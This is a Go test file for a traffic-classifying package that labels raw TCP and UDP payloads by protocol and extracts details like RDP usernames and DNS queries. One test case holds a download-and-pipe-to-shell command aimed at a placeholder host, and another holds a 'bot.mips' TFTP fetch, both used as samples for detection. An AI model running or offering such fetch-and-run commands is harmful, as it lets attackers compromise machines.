package appid

import (
	"bufio"
	"compress/gzip"
	"encoding/hex"
	"os"
	"strings"
	"testing"
)

func zeros(n int) string { return strings.Repeat("\x00", n) }

func TestTCP(t *testing.T) {
	for _, c := range []struct{ say, want string }{
		{"", ""},
		{"\r\n\r\n", Text},
		{"HELP\r\n", Text},
		{"caf\xc3", Text}, // a character cut in two
		{"caf\xff", Binary},
		{"\x00", Binary},
		{"GET", Text},
		{"GET  / HTTP/1.0\r\n", Text},
		{"getaway\r\n", Text},
		{"statsx\r\n", Text},
		{"\x16\x03", Binary},
		{"\x16\x03\x05\x00\x10\x01", Binary},
		{"\x16\x03\x01\x00\x10\x02", Binary},
		{"\x03\x00\x00\x07\x02\xf0\x80", Binary}, // TPKT data, no request
		{"\x03\x00", Binary},
		{"\xff", Binary},
		{"\xff\xff\xff", Binary},
		{"\x05\x03\x00", Binary},
		{"\x04\x00" + zeros(10), Binary},
		{"\x00\x00\x00\x08\x04\xd2\x16", "postgres"},
		{"\x00\x00\x00\x04\x04\xd2\x16\x2f", Binary},
		{"\x10\x0c\x00\x05MQTTX", Binary},
		{"*x\r\n", Text},
		{"\x30\x80\x02\x01\x01\x60", Binary},
		{"\x30\x84\x00\x00", Binary},

		{"\x16\x03\x01", "tls"},
		{"\x16\x03\x01\x00\x7b\x01", "tls"},
		{"\x80\x2e\x01\x00\x02\x00\x15", "sslv2"},
		{"\x80\x31\x01\x03\x01\x00\x18", "sslv2"},
		{"SSH-2.0-Go\r\n", "ssh"},
		{"GET / HTTP/1.0\r\n\r\n", "http"},
		{"OPTIONS / RTSP/1.0\r\n\r\n", "rtsp"},
		{"OPTIONS sip:nm SIP/2.0\r\n", "sip"},
		{"OPTIONS / HTTP/1.0\r\n", "http"},
		{"CONNECT mxs.mail.ru:25 HTTP/1.1\r\n", "http"},
		{"CONNECT {\"verbose\":false}\r\n", "nats"},
		{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "http2"},
		{"MGLNDD_192.0.2.1_1028\n", "mglndd"},
		{"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x00\x00\x00\x00", "rdp"},
		{"\x03\x00\x00\x2e)\xe0\x00\x00\x00\x00\x00Cookie: mstshash=x\r\n\x01\x00\x08\x00\x01\x00\x00\x00", "rdp"},
		{"\x03\x00\x00\x0b\x06\xe0\x00\x00\x00\x00\x00", "rdp"},
		{"\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x04\x00\xc1\x02\x01\x00\xc2\x02\x02\x00\xc0\x01\n", "s7"},
		{"\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x04\x00\x77\x02\x01\x00", "tpkt"},
		{"\x00\x00\x00\x45\xffSMBr", "smb"},
		{"\x00\x00\x00\x45\xfeSMB@", "smb"},
		{"\xff\xfd\x01\xff\xfd\x1f", "telnet"},
		{"CNXN\x00\x00\x00\x01", "adb"},
		{"*1\r\n$4\r\nINFO\r\n", "redis"},
		{"INFO\r\n", "redis"},
		{"config get dir\r\n", "redis"},
		{"stats\r\n", "memcached"},
		{"cons\n", "zookeeper"},
		{`{"id":1,"method":"mining.subscribe","params":[]}`, "stratum"},
		{`{"method":"login","params":{"login":"4A","pass":"x"}}`, "stratum"},
		{`{"jsonrpc":"2.0","method":"eth_blockNumber"}`, "jsonrpc"},
		{`{"a":1}`, "json"},
		{"\x10\x0c\x00\x04MQTT\x04\x02\x00<\x00\x00", "mqtt"},
		{"\x05\x01\x00", "socks5"},
		{"\x04\x01\x00\x19\x34\x65\x08\x35\x00", "socks4"},
		{"\x05\x00\x0b\x03\x10", "dcerpc"},
		{"RFB 003.008\n", "vnc"},
		{"\x00\x00\x00\x08\x04\xd2\x16\x2f", "postgres"},
		{"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x02\x04\x00\x80\x00", "ldap"},
		{"\x80\x00\x00\x28r\xfe\x1d\x13" + zeros(7) + "\x02\x00\x01\x86\xa0", "rpc"},
		{"\x00\x1e\x00\x06\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04bind\x00\x00\x10\x00\x03", "dns"},
		{"\x00\x00\x00\x12\x00\x03\x00\x00\x00\x00\x00\x09\x00\x04test\x00\x00\x00\x00", "kafka"},
		{"\x13\x37\x00\x00\x00\x05\x00\x2b\x0e\x01\x00", "modbus"},
		{"\x14\x00\xfd\x05\x0d34.60.228.140c\xdd\x01\x01\x00", "minecraft"},
		{"\x01default\n", "lpd"},
		{"./wget http://192.0.2.1/tpnew -O- | sh\r\n", "shell"},
		{"@RSYNCD: 31.0\n", "rsync"},
		{"USER anonymous\r\n", "ftp"},
		{"EHLO x\r\n", "smtp"},
		{strings.Repeat("a", 5000) + "\x00", Text}, // behind MaxLook
	} {
		if got := TCP([]byte(c.say)); got != c.want {
			t.Errorf("%.60q: %q, want %q", c.say, got, c.want)
		}
	}
}

const dnsAny = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\xff\x00\x01"

func TestUDP(t *testing.T) {
	for _, c := range []struct{ say, want string }{
		{"", ""},
		{"\x12\x34\x81" + dnsAny[3:], Binary}, // an answer
		{dnsAny[:len(dnsAny)-1], Binary},
		{"\x00\x01file\x00octet", Binary},
		{"\xc0" + zeros(1199), Binary}, // QUIC without a version
		{"\x06\x00\xff", Binary},
		{"\x44\x01\x00\x01ab", Binary}, // a token cut
		{"\x1b" + zeros(46), Binary},

		{dnsAny, "dns"},
		{"\x1b" + zeros(47), "ntp"},
		{"\x17\x00\x03\x2a" + zeros(4), "ntp"},
		{"\x16\x02\x00\x01" + zeros(8), "ntp"},
		{"\x30\x26\x02\x01\x01\x04\x06public\xa0", "snmp"},
		{"\x30\x25\x02\x01\x01\x63\x20", "ldap"},
		{"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n", "sip"},
		{"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n", "ssdp"},
		{"\x40\x01\x7d\x70\xbb.well-known\x04core", "coap"},
		{"\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n", "memcached"},
		{"\x82\x28\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00!\x00\x01", "netbios-ns"},
		{"\x00\x01r\x00octet\x00", "tftp"},
		{"\x06\x00\xff\x07" + zeros(19), "ipmi"},
		{"\x06\x00\xff\x06\x00\x00\x11\xbe\x80\x00\x00\x00", "rmcp"},
		{"\xc3\x00\x00\x00\x01\x08ABCDEFGH\x00\x00" + zeros(1200), "quic"},
		{"\x00\x01\x00\x00\x21\x12\xa4\x42" + zeros(12), "stun"},
		{"\x16\xfe\xfd\x00\x00", "dtls"},
		{"\xff\xff\xff\xffTSource Engine Query\x00", "source"},
		{"12345678" + zeros(8) + "\x01\x10\x02\x00\x00\x00\x00\x00\x00\x00\x01\x50", "isakmp"},
		{"d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe", "bittorrent"},
		{"\x72\xfe\x1d\x13" + zeros(7) + "\x02\x00\x01\x86\xa0", "rpc"},
	} {
		if got := UDP([]byte(c.say)); got != c.want {
			t.Errorf("%.60q: %q, want %q", c.say, got, c.want)
		}
	}
}

func TestDetail(t *testing.T) {
	for _, c := range []struct{ app, say, key, value string }{
		{"rdp", "", "", ""},
		{"rdp", "\x03\x00Cookie: mstshash=\r\n", "", ""},
		{"socks4", "\x04\x01\x00\x19", "", ""},
		{"dns", "\x00", "query", "."},
		{"dns", dnsAny[:17], "query", "."},
		{"snmp", "\x30\x26\x02\x01\x01\x04\x7fpublic", "", ""},
		{"tftp", "\x00", "", ""},
		{"http", "GET / HTTP/1.0\r\n", "", ""},

		{"rdp", "\x03\x00\x00\x2eCookie: mstshash=Administr\r\n\x01", "username", "Administr"},
		{"socks4", "\x04\x01\x00\x19\x34\x65\x08\x35\x00", "target", "52.101.8.53:25"},
		{"socks4", "\x04\x01\x01\xbb\x00\x00\x00\x01me\x00example.com\x00", "target", "example.com:443"},
		{"http", "CONNECT mxs.mail.ru:25 HTTP/1.1\r\n", "target", "mxs.mail.ru:25"},
		{"ssh", "SSH-2.0-ZGrab ZGrab SSH Survey\r\n", "version", "SSH-2.0-ZGrab ZGrab SSH Survey"},
		{"ssh", "SSH-" + strings.Repeat("x", 400), "version", "SSH-" + strings.Repeat("x", 251)},
		{"dns", dnsAny, "query", "example.com."},
		{"dns", "\x00\x1d" + dnsAny, "query", "example.com."},
		{"snmp", "\x30\x26\x02\x01\x01\x04\x06public\xa0", "community", "public"},
		{"tftp", "\x00\x01bot.mips\x00octet\x00", "filename", "bot.mips"},
	} {
		key, value := Detail(nil, c.app, []byte(c.say))
		if key != c.key || string(value) != c.value {
			t.Errorf("%s %.60q: %q %q, want %q %q", c.app, c.say, key, value, c.key, c.value)
		}
	}
}

// TestRealPayloads: 39 of 40 that came to a catch-all have a name.
func TestRealPayloads(t *testing.T) {
	count := map[string]int{}
	all := 0
	for _, b := range payloads(t) {
		app := TCP(b)
		count[app]++
		all++
		if app == Binary || app == Text {
			t.Logf("%s: %.60q", app, b)
		}
	}
	t.Log(count)
	if count[Binary]+count[Text] > all/40 || count["tls"] < 700 || count["http"] < 20 {
		t.Errorf("%v of %d", count, all)
	}
}

func payloads(t testing.TB) (list [][]byte) {
	f, err := os.Open("../testdata/payloads.tsv.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	in := bufio.NewScanner(z)
	in.Buffer(nil, 1<<20)
	for in.Scan() {
		_, text, ok := strings.Cut(in.Text(), "\t")
		if b, err := hex.DecodeString(text); ok && err == nil && len(b) > 0 {
			list = append(list, b)
		}
	}
	return list
}

func TestNoAllocation(t *testing.T) {
	list := payloads(t)
	if got := testing.AllocsPerRun(10, func() {
		var dst [MaxDetail + 8]byte
		for _, b := range list {
			Detail(dst[:0], TCP(b), b)
			Detail(dst[:0], UDP(b), b)
		}
	}); got > 0 {
		t.Errorf("%v allocations", got)
	}
}

func BenchmarkTCP(b *testing.B) {
	list := payloads(b)
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		TCP(list[i%len(list)])
	}
}

// FuzzAppid: no bytes make it fail, and what it says of them depends on
// nothing else.
func FuzzAppid(f *testing.F) {
	for i, b := range payloads(f) {
		if i%20 == 0 || i > 780 {
			f.Add(b)
		}
	}
	f.Add([]byte(dnsAny))
	f.Fuzz(func(t *testing.T, b []byte) {
		before := string(b)
		if empty := len(b) == 0; (TCP(b) == "") != empty || (UDP(b) == "") != empty {
			t.Fatalf("%q: %q, %q", b, TCP(b), UDP(b))
		}
		for _, app := range []string{TCP(b), UDP(b), "dns", "snmp", "socks4", "tftp", "rdp"} {
			key, value := Detail(nil, app, b)
			if (key == "") != (len(value) == 0) || len(value) > MaxDetail {
				t.Fatalf("%s %q: %q %q", app, b, key, value)
			}
		}
		if string(b) != before {
			t.Fatal("the bytes were changed")
		}
	})
}
